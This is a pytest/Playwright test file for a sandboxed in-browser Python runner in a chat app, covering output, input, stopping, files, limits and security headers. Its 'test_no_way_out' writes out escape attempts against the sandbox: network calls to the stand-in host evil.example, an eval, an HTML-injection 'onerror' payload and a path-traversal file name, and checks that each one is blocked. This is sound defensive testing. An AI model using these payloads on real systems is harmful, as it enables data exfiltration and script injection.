"""Python in the browser: what a program says, asks, writes and may not do."""
import re

import pytest
from playwright.sync_api import expect

from app import answer, api, ask, cut_short, make_chat, open_chat

START = 120_000  # Its parts come and are compiled, on a busy machine.


@pytest.fixture
def run(page, server):
    """run(TEXT of a program) -> the section of its result, once it has ended."""
    made = []

    def go(*blocks, wait=True, n=0):
        text = "\n\n".join(f"```python\n{b}\n```" if not b.startswith("```") else b for b in blocks)
        made.append(make_chat(server, "Python", [("user", "Write"), ("assistant", text)]))
        open_chat(page, server, made[-1])
        answer(page).get_by_role("button", name="Run").nth(n).click()
        result = page.locator(".result")
        if wait:
            expect(result.get_by_role("status")).to_contain_text("after", timeout=START)
        return result

    yield go
    for one in made:
        api(server, "DELETE", f"/v1/tiro/chats/{one}")


def output(result):
    return result.get_by_label("Output", exact=True)


def test_a_program_runs(run):
    result = run("import sys\nprint('six:', sum(range(4)))\nprint('oh', file=sys.stderr)\n")
    expect(result.get_by_role("status")).to_contain_text("Done after")
    expect(output(result)).to_have_text("six: 6\noh\n")
    expect(output(result).locator(".bad")).to_have_text("oh\n")


def test_it_is_a_main_program_with_its_other_files(run):
    result = run("# app.py\nimport helper, sys, os\nif __name__ == '__main__':\n"
                 "    print(helper.twice(4), sys.argv, __file__, sorted(os.listdir()))\n",
                 "# helper.py\ndef twice(n):\n    return n + n\n")
    expect(output(result)).to_have_text("8 ['app.py'] app.py ['app.py', 'helper.py']\n")


@pytest.mark.parametrize("text, words, good", [
    ("def f():\n    return 1 / 0\nf()", ['File "program.py", line 3', "return 1 / 0", "ZeroDivisionError"], False),
    ("x = 1\nprint('a'\n", ['File "program.py", line 2', "SyntaxError"], False),
    ("import sys\nsys.exit('no good')", ["no good"], False),
    ("import sys\nprint('bye')\nsys.exit(0)", ["bye"], True),
    ("import asyncio\nasync def f():\n    await asyncio.sleep(0.01)\n    print('slept')\nasyncio.run(f())", ["slept"], True),
    ("import numpy as np\nprint(np.zeros(2))", ["numpy is not here", "standard library only"], False),
    ("from matplotlib import pyplot\npyplot.show()", ["matplotlib is not here"], False),
    ("import json, sqlite3, random\nprint(json.dumps(sqlite3.connect(':memory:').execute('select 1').fetchall()))", ["[[1]]"], True),
])
def test_how_it_ends(run, text, words, good):
    result = run(text)
    expect(result.get_by_role("status")).to_contain_text("Done" if good else "Failed")
    for word in words:
        expect(output(result)).to_contain_text(word)
    expect(output(result)).not_to_contain_text("pyodide")


def test_it_asks_for_lines(page, run):
    result = run("name = input('Name? ')\nprint('Hello', name)\ntry:\n    input()\nexcept EOFError:\n    print('no more')\n",
                 wait=False)
    page.get_by_label("Name?").fill("Ann", timeout=START)
    result.get_by_role("button", name="Enter").click()
    result.get_by_role("button", name="No more").click()
    expect(result.get_by_role("status")).to_contain_text("Done")
    expect(output(result)).to_have_text("Name? Ann\nHello Ann\nno more\n")


def test_what_it_says_is_seen_while_it_runs_and_stop_ends_it(run):
    result = run("print('begun')\nwhile True:\n    pass\n", wait=False)
    expect(output(result)).to_contain_text("begun", timeout=START)
    expect(result.get_by_role("status")).to_have_text("Running…")
    result.get_by_role("button", name="Stop").click()
    expect(result.get_by_role("status")).to_contain_text("Failed")
    expect(output(result)).to_contain_text("Stopped.")


def test_the_files_that_it_writes(page, run):
    result = run("import os\nos.mkdir('d')\nopen('d/a.txt', 'w').write('inside')\nopen('p.svg', 'w').write("
                 "'<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"><rect width=\"9\" height=\"9\"/></svg>')\n"
                 "open('big', 'wb').write(bytes(20 << 20))\n")
    files = result.get_by_label("Files that it wrote")
    expect(files.get_by_role("button")).to_have_text([re.compile(r"d/a\.txt"), re.compile(r"p\.svg")])
    expect(files.get_by_role("img", name="p.svg")).to_be_visible()
    expect(result).to_contain_text("Too large to be kept: big")
    with page.expect_download() as got:
        files.get_by_role("button", name="d/a.txt").click()
    assert got.value.suggested_filename == "a.txt" and open(got.value.path()).read() == "inside"


def test_memory_and_output_have_limits(run):
    result = run("try:\n    x = bytearray(600 << 20)\nexcept MemoryError:\n    print('too much')\n"
                 "x = bytearray(100 << 20)\nprint('enough')\n")
    expect(output(result)).to_have_text("too much\nenough\n")
    result = run("for i in range(100_000):\n    print('x' * 20)\n")
    expect(output(result)).to_contain_text("the rest is left out")
    assert len(output(result).inner_text()) < 210_000


def test_the_result_goes_to_the_model_when_one_says_so(page, server, run):
    result = run("print('the answer is', 6 * 7)\nx = 1\n")
    result.get_by_role("button", name="Give the result to the model").click()
    expect(page.get_by_label("Files that go with it")).to_contain_text("Output of program.py")
    asked = []
    page.on("request", lambda r: asked.append(r.post_data_json) if r.url.endswith("/v1/responses") else None)
    ask(page, "What does it say?")
    cut_short(page, 1)
    assert "Output of program.py:\n```\nthe answer is 42\n\n```" in asked[0]["input"][-1]["content"]


def test_no_way_out(browser, server):
    """Neither the page around, nor its origin, nor any network."""
    text = """```python
import js
from pyodide.code import run_js
for name in ("document", "parent", "window", "localStorage", "indexedDB", "caches"):
    try:
        thing = getattr(js, name)
        if name == "indexedDB":
            thing.open("x")
        elif name == "caches":
            await_ = thing.open("x")
        print(name, "there", thing)
    except Exception as e:
        print("no", name)
try:
    run_js("self.owned = 1")
    print("eval ran")
except Exception as e:
    print("no eval")
from pyodide.ffi import run_sync
for url in ("https://evil.example/f", "SERVER/v1/models", "SERVER/"):
    try:
        run_sync(js.fetch(url))
        print("fetched", url)
    except Exception as e:
        print("no fetch")
for make in (lambda: js.XMLHttpRequest.new(), lambda: js.WebSocket.new("wss://evil.example/w")):
    try:
        x = make()
        if hasattr(x, "open"):
            x.open("GET", "https://evil.example/x", False)
            x.send()
        print("made", x.readyState)
    except Exception as e:
        print("no request")
try:
    import urllib.request
    urllib.request.urlopen("https://evil.example/u")
    print("opened")
except Exception as e:
    print("no urlopen")
js.postMessage(js.JSON.parse('{"kind": "out", "text": "<img src=https://evil.example/i onerror=document.title=1>"}'))
js.postMessage(js.JSON.parse('{"kind": "done", "ok": true, "ms": "x", "files": [{"name": "../../<b>x", "bytes": 3}], "left": [{}, "<i>"]}'))
print(js.location.href.split("/")[0], js.origin)
```"""
    chat = make_chat(server, "Way out", [("assistant", text.replace("SERVER", server.url))])
    page = browser.new_page()
    reached = []
    page.context.on("response", lambda r: reached.append(r.url))
    open_chat(page, server, chat)
    page.get_by_role("button", name="Run").click()
    result = page.locator(".result")
    expect(result.get_by_role("status")).to_contain_text("after", timeout=START)
    for word in ("no document", "no parent", "no window", "no localStorage", "no eval", "no urlopen"):
        expect(output(result)).to_contain_text(word)
    said = output(result).inner_text()
    for word in ("there <", "eval ran", "fetched", "opened", "made 4"):
        assert word not in said, said
    assert said.count("no fetch") == 3, said
    page.wait_for_timeout(1000)
    foreign = [u for u in reached if not u.startswith((server.url, "blob:", "data:"))]
    assert foreign == [] and page.title() == "Tiro"
    expect(page.locator(".result img")).to_have_count(0)
    page.close()
    api(server, "DELETE", f"/v1/tiro/chats/{chat}")


def test_its_frame_says_what_it_may_do(server):
    import urllib.request
    with urllib.request.urlopen(server.url + "/python.html") as reply:
        policy = reply.headers["content-security-policy"]
    assert policy.startswith("sandbox allow-scripts; default-src 'none';") and "allow-same-origin" not in policy
    assert "connect-src" not in policy and "'unsafe-eval'" not in policy and "http" not in policy
    for path in ("/", "/preview.html"):
        with urllib.request.urlopen(server.url + path) as reply:
            assert "wasm" not in reply.headers["content-security-policy"]


def test_its_parts_come_once_and_late(browser, server):
    chat = make_chat(server, "Late", [("assistant", "```python\nimport time\nprint(time.time_ns())\n```")])
    context = browser.new_context()
    page = context.new_page()
    parts = []
    page.on("response", lambda r: parts.append((r.url.rsplit(".")[-1], r.headers.get("cache-control"),
                                                r.headers.get("content-encoding")))
            if r.url.endswith((".wasm", ".zip")) else None)
    open_chat(page, server, chat)
    assert parts == []
    result = page.locator(".result")
    was = "-"
    for _ in range(2):
        page.get_by_role("button", name="Run").click()
        expect(output(result)).to_have_text(re.compile(rf"^(?!{was})\d+"), timeout=START)
        was = output(result).inner_text().strip()
        expect(result.get_by_role("status")).to_contain_text("after")
    forever = "max-age=31536000, immutable"
    assert sorted(parts) == [("wasm", forever, "gzip"), ("zip", forever, None)]
    context.close()
    api(server, "DELETE", f"/v1/tiro/chats/{chat}")
